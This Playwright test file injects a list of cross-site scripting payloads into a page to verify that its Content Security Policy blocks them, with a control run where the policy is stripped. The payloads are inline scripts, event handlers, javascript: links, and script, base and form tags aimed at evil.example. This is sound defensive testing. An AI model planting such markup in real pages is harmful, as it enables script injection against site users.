import { expect } from '@playwright/test'
import { test } from './support/test.ts'

/** Markup that an attacker might inject; any script in it that runs calls `ran`. */
const injected = [
  '<script>ran("inline")</script>',
  '<img src="/nothing.png" onerror="ran(\'handler\')">',
  '<svg onload="ran(\'drawing\')"></svg>',
  '<a id="link" href="javascript:ran(\'link\')">Here</a>',
  '<iframe srcdoc="<script>parent.ran(\'frame\')</script>"></iframe>',
  '<script src="data:text/javascript,ran(\'data\')"></script>',
  '<script src="https://evil.example/x.js"></script>',
  '<base href="https://evil.example/">',
  '<form id="form" action="https://evil.example/"></form>',
].join('\n')

for (const guarded of [true, false]) {
  test(`markup that got into a page ${guarded ? 'runs nothing' : 'would run, were it not for the policy'}`, async ({
    page,
    watch,
    server,
  }) => {
    // Refusals by the browser and requests to the attacker's site are part of the test.
    watch.expect(/Content Security Policy|evil\.example|nothing\.png|ERR_/)
    const runs: string[] = []
    await page.exposeFunction('ran', (what: string) => runs.push(what))
    const asked: string[] = []
    await page.route('https://evil.example/**', (route) => {
      asked.push(route.request().url())
      return route.abort()
    })
    await page.route(`${server.origin}/terms-condition`, async (route) => {
      const answer = await route.fetch()
      const headers = answer.headers()
      if (!guarded) delete headers['content-security-policy']
      const body = (await answer.text()).replace('</body>', `${injected}</body>`)
      await route.fulfill({ response: answer, headers, body })
    })
    await page.goto('/terms-condition')
    await page.locator('#link').evaluate((link: HTMLAnchorElement) => link.click())
    await page.locator('#form').evaluate((form: HTMLFormElement) => form.submit())
    if (guarded) {
      await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)))
      expect([runs, asked]).toEqual([[], []])
      expect(page.url()).toBe(`${server.origin}/terms-condition`)
      expect(await page.evaluate(() => document.baseURI)).toBe(`${server.origin}/terms-condition`)
    } else {
      await expect.poll(() => runs).toEqual(expect.arrayContaining(['inline', 'handler', 'frame']))
    }
  })
}
